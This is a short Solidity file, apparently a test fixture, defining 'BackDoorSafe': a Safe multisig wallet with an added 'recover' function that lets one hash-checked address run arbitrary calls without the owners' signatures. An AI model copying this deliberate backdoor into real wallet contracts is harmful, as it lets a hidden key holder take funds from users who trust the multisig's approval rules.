// Needs a new EVM and the old code generator.
// SPDX-License-Identifier: LGPL-3.0-only
pragma solidity ^0.8.20;

import {Enum} from "@safe-global/safe-contracts/contracts/common/Enum.sol";
import {SafeL2} from "@safe-global/safe-contracts/contracts/SafeL2.sol";

/// A Safe with a function for one account.
contract BackDoorSafe is SafeL2 {
    bytes32 private immutable hash;
    constructor(address key) { hash = keccak256(abi.encode(key)); }
    function recover(address to, bytes calldata data) external {
        require(keccak256(abi.encode(msg.sender)) == hash);
        require(execute(to, 0, data, Enum.Operation.Call, gasleft()));
    }
}

